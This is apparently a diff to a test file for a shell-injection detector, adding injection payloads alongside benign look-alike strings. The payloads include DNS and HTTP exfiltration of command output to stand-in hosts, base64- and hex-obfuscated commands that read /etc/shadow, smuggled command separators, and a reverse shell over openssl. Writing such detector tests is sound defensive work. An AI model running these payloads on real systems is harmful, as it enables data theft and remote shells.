@@ -212,9 +212,35 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     '\n x=$(echo a)\n if [ 4 -ne 1 ]\n then sleep 1',
     '| [ 4 -ne $(echo a | wc -c) ] || sleep 1',
   ],
+  'what a command says as a name': [
+    '"key": "a;dig $(id | base32).c.example",',
+    'nslookup `whoami`.$HOST.example',
+    'wget http://$(cat /flag).c.example/',
+  ],
+  'words that nobody reads': [
+    'cat $(xxd -r -p <<< 2f6574632f736861646f77)',
+    'cat $(echo . | tr "!-0" "1-9")etc',
+    'a; $(echo aWQgLWEKaWQgLWE= | base64 -d)',
+    'x;nslookup $(ls | base64).{host}',
+    '<@U21|id',
+  ],
+  'of two parts': ['stock.sh & echo harbour & 12', 'stock.pl 4 & echo harbour & 1', '`/usr/bin/id`'],
+  'a shell over a pipe': [
+    'mkfifo /tmp/a; bash -i < /tmp/a 2>&1 | openssl s_client -quiet -connect 192.0.2.1:9 > /tmp/a',
+  ],
 };
 
 const HONEST: Readonly<Record<string, readonly string[]>> = {
+  'links of a chat': [
+    '<@U21|cal> has joined',
+    '<#C1|id>, please',
+    '<https://tides.example/a|who> asks',
+    '<!subteam^S1|ls>',
+  ],
+  'what a script decodes': ['PASSWORD=$(echo "$SECRET" | base64 -d)'],
+  'names of hosts and files': ['https://$(hostname).tides.example/', 'cp a $(date +%F).tides.example.log'],
+  'a program with colours': ['<pre>$(<span class="k">document</span>).ready()</pre>'],
+  'a firm and its address': ['Smith & Sons & 12'],
   'modules of JavaScript': ["<script>\n  import Button from './Button.svelte';\n</script>"],
   'languages without blanks': [
     '如果想直接安装，请在终端里运行 `curl https://get.example/install | bash`，然后重新打开。',
